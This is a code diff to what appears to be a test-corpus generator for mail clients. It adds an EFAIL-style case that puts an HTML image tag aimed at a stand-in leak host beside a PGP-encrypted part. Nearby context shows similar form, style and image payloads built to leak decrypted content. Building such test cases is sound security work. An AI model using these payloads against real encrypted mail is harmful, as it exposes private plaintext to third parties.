@@ -125,6 +125,9 @@ def _efail() -> dict[str, bytes]:
             "efail-direct-form", '<form action="HOST"><input name="a" value="', '"><button>OK</button></form>', pgp_encrypted()
         ),
         "efail-direct-style": around("efail-direct-style", "<style>p{background:url(HOST", ")}</style><p>x</p>", enveloped()),
+        "efail-beside": mail(
+            several("multipart/mixed", [html('<p>x</p><img src="http://beside.leak.test/a.png">'), pgp_encrypted()])
+        ),
         "efail-gadget-smime": mail(enveloped(ENVELOPED + b'<img src="http://efail-gadget.leak.test/' * 4)),
         "efail-gadget-pgp": mail(pgp_encrypted(ARMOUR + '<img src="http://efail-gadget-pgp.leak.test/">')),
         "efail-backchannels": mail(
